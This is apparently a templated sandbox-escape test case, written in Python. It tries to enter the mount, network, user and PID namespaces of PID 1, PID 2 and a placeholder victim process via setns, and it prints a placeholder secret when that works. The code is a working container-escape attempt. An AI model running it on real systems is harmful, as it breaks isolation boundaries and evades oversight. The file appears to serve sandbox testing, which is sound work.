# class: escape
# success: the namespaces of another process are entered
# ends: forbidden
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
for pid in (1, 2, {{victim_pid}}):
    for name in ("mnt", "net", "user", "pid"):
        try:
            handle = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
        except OSError:
            continue
        if pid != os.getpid() and libc.setns(handle, 0) == 0:
            print("{{secret}}", pid, name)
libc.setns(0, 0)
print("{{secret}}")

def solve(x):
    return 0
